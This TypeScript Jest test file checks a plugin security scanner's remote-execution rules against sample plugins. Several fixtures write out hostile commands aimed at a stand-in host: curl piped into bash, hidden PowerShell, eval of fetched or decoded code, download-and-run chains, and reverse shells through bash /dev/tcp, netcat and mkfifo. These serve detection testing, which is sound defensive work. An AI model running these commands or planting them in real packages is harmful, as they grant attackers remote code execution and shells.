import { describe, expect, it } from '@jest/globals';
import { pluginFiles, type PluginSketch } from '@ragnos-vault/testing';
import { DEFAULT_POLICY, RULES, scan, type Severity } from '../../index.ts';

/** What it is, the plugin, and the severity where it is not the rule's own. */
type Case = readonly [what: string, plugin: PluginSketch, severity?: Severity];

interface Cases {
  readonly seen: readonly Case[];
  readonly unseen: readonly Case[];
}

const script = (command: string): PluginSketch => ({
  'package.json': JSON.stringify({ name: 'plugin', version: '1.0.0', scripts: { postinstall: command } }),
});
const manual = (command: string): PluginSketch => ({
  'package.json': JSON.stringify({ name: 'plugin', version: '1.0.0', scripts: { bootstrap: command } }),
});

const CASES: Readonly<Record<string, Cases>> = {
  'EXE-001': {
    seen: [
      ['a download piped into a shell', script('curl -fsSL https://a.example.invalid/i.sh | sudo bash')],
      ['a download that a shell evaluates', script('bash -c "$(wget -qO- https://a.example.invalid/i.sh)"')],
      [
        'a command that code starts',
        `require('child_process').execSync('curl https://a.example.invalid | node');`,
      ],
      [
        'a command in a list',
        `import { spawn } from 'child_process'; spawn('sh', ['-c', 'curl https://a.example.invalid | sh']);`,
      ],
      [
        'encoded PowerShell',
        `require('child_process').exec('powershell -w hidden -enc ZQBjAGgAbwAgAGgAZQBsAGwAbwA=');`,
      ],
      ['PowerShell that fetches', script('powershell "iex (iwr https://a.example.invalid/i.ps1)"')],
      [
        'a shell file that runs at install',
        { ...Object(script('sh i.sh')), 'i.sh': 'set -e\ncurl https://a.example.invalid | sh\n' },
      ],
      [
        'a command that somebody must ask for',
        manual('curl -fsSL https://a.example.invalid/i.sh | sh'),
        'medium',
      ],
      [
        'a shell file that nothing starts',
        { 'ci/setup.sh': 'wget -O - https://a.example.invalid | bash\n' },
        'medium',
      ],
    ],
    unseen: [
      ['a download into a file', script('curl -o lib.tgz https://a.example.invalid/lib.tgz')],
      ['a text about it', { 'README.md': 'Run `curl https://a.example.invalid/i.sh | sh`.' }],
      ['a file piped into a shell', `require('child_process').execSync('cat setup.sh | sh');`],
      [
        'a download piped into a reader',
        `require('child_process').execSync('curl https://a.example.invalid/a.json | jq .');`,
      ],
      ['a command in a comment', { 'setup.sh': '# curl https://a.example.invalid | sh\necho done\n' }],
    ],
  },
  'EXE-002': {
    seen: [
      ['eval of base64', `eval(atob('Y29uc29sZS5sb2coMSk='));`],
      ['Function of hexadecimal', `new Function(Buffer.from('636f6e736f6c65', 'hex').toString())();`],
      [
        'what was fetched',
        `fetch('https://a.example.invalid').then((r) => r.text()).then((code) => (0, eval)(code));`,
      ],
      [
        'what was fetched, in callbacks',
        `const vm = require('vm');
         require('https').get('https://a.example.invalid', (res) => {
           let all = ''; res.on('data', (part) => { all += part; }); res.on('end', () => vm.runInThisContext(all));
         });`,
      ],
      [
        'what was decrypted, through _compile',
        `const d = require('crypto').createDecipher('aes256', process.env.npm_package_description);
         let code = d.update(require('./data'), 'hex', 'utf8'); code += d.final('utf8');
         const m = new module.constructor(); m.paths = module.paths; m._compile(code, '');`,
      ],
      ['character codes', `eval(String.fromCharCode(...[99, 111, 110, 115, 111, 108, 101]));`],
      [
        'an interpreter given decoded code',
        `require('child_process').spawn('node', ['-e', Buffer.from('Y29uc29sZS5sb2coMSk7', 'base64').toString()]);`,
      ],
      [
        'a command that was decoded',
        `require('child_process').exec(Buffer.from('d2hvYW1pCg==', 'base64').toString());`,
      ],
      ['the import of decoded data', `import('data:text/javascript,' + atob(require('./payload')));`],
    ],
    unseen: [
      [
        'a function of constant text',
        `const add = new Function('a', 'b', 'return a + b'); module.exports = add;`,
      ],
      [
        'a template compiled to a function',
        `module.exports = (html) => new Function('data', 'return ' + JSON.stringify(html));`,
      ],
      [
        'decoded data that stays data',
        `module.exports = JSON.parse(Buffer.from('e30=', 'base64').toString('utf8'));`,
      ],
      [
        'fetched data that stays data',
        `fetch('https://a.example.invalid').then((r) => r.json()).then((d) => console.log(d.version));`,
      ],
      ['a timer that fetches', `setTimeout(() => fetch('https://a.example.invalid'), 1000);`],
    ],
  },
  'EXE-003': {
    seen: [
      [
        'a stream, a mode, a child',
        `const fs = require('fs'), https = require('https'), { execFile } = require('child_process');
         const file = '/tmp/tool';
         https.get('https://a.example.invalid/tool', (res) => {
           const out = fs.createWriteStream(file); res.pipe(out);
           out.on('finish', () => { fs.chmodSync(file, 0o755); execFile(file); });
         });`,
      ],
      [
        'a file that is named as a program',
        `import { writeFileSync } from 'fs'; import { spawn } from 'child_process';
         const body = await (await fetch('https://a.example.invalid/a')).arrayBuffer();
         writeFileSync('tool.exe', Buffer.from(body)); spawn('tool.exe');`,
      ],
      [
        'a file that is made with the mode',
        `const fs = require('fs'), cp = require('child_process');
         fetch('https://a.example.invalid').then((r) => r.text()).then((t) => {
           fs.writeFileSync('/tmp/t', t, { mode: 0o700 }); cp.spawnSync('/tmp/t', [], { detached: true });
         });`,
      ],
      ['a shell', script('curl -o t https://a.example.invalid/t && chmod +x t && ./t')],
      ['a shell with another order of words', script('wget https://a.example.invalid/t.sh; sh t.sh')],
      [
        'a command that somebody must ask for',
        manual('curl -o t https://a.example.invalid/t && chmod +x t && ./t'),
        'medium',
      ],
    ],
    unseen: [
      [
        'a download that is not started',
        `const fs = require('fs');
         require('https').get('https://a.example.invalid/data.json', (res) => res.pipe(fs.createWriteStream('data.json')));`,
      ],
      [
        'a program of its own',
        `const fs = require('fs'); fs.chmodSync('./bin/tool', 0o755); require('child_process').execFile('./bin/tool');`,
      ],
      [
        'a download beside the start of something else',
        `const fs = require('fs'), cp = require('child_process');
         fetch('https://a.example.invalid').then((r) => r.text()).then((t) => fs.writeFileSync('list.txt', t));
         cp.execFileSync('git', ['status']);`,
      ],
      ['a shell that unpacks', script('curl -o t.tgz https://a.example.invalid/t.tgz && tar xzf t.tgz')],
    ],
  },
  'EXE-005': {
    seen: [
      [
        'pipes',
        `const net = require('net'), cp = require('child_process');
         const sh = cp.spawn('/bin/sh', []); const socket = new net.Socket();
         socket.connect(4444, 'a.example.invalid', () => { socket.pipe(sh.stdin); sh.stdout.pipe(socket); });`,
      ],
      [
        'a device of bash',
        `require('child_process').exec('bash -i >& /dev/tcp/a.example.invalid/4444 0>&1');`,
      ],
      ['netcat', script('nc a.example.invalid 4444 -e /bin/sh')],
      [
        'a command that was fetched',
        `fetch('https://a.example.invalid/c').then((r) => r.text()).then((c) => require('child_process').exec(c));`,
      ],
      [
        'a pipe of files',
        script('mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc a.example.invalid 4444 > /tmp/f'),
      ],
      ['a command that somebody must ask for', manual('nc a.example.invalid 4444 -e /bin/sh'), 'medium'],
    ],
    unseen: [
      [
        'a proxy',
        `const net = require('net'); net.createServer((c) => { const s = net.connect(80, 'a.example.invalid'); c.pipe(s); s.pipe(c); }).listen(0);`,
      ],
      [
        'a child that prints',
        `const c = require('child_process').spawn('git', ['log']); c.stdout.pipe(process.stdout); process.stdin.pipe(c.stdin);`,
      ],
      [
        'a command with an argument that was fetched',
        `fetch('https://a.example.invalid').then((r) => r.text()).then((v) => require('child_process').exec('git tag ' + v));`,
      ],
      ['a check of a port', manual('nc -z localhost 8080')],
    ],
  },
};

function severitiesOf(rule: string, plugin: PluginSketch): readonly Severity[] {
  const input = { files: pluginFiles(plugin), name: 'plugin', version: '1.0.0', sha256: '0'.repeat(64) };
  const { findings } = scan(input, DEFAULT_POLICY);
  return findings.filter((finding) => finding.rule === rule).map(({ severity }) => severity);
}

describe.each(Object.entries(CASES))('%s', (rule, { seen, unseen }) => {
  const own = RULES.find(({ id }) => id === rule)?.severity;

  it.each(seen)('sees %s', (...[, plugin, severity]) => {
    expect(severitiesOf(rule, plugin)).toContain(severity ?? own);
  });

  it.each(unseen)('passes over %s', (...[, plugin]) => {
    expect(severitiesOf(rule, plugin)).toEqual([]);
  });
});

it('has three cases of either kind for every rule of the family', () => {
  const family = RULES.map(({ id }) => id).filter((id) => /^EXE-/.test(id));
  expect(Object.keys(CASES)).toEqual(family);
  for (const { seen, unseen } of Object.values(CASES)) {
    expect(Math.min(seen.length, unseen.length)).toBeGreaterThanOrEqual(3);
  }
});
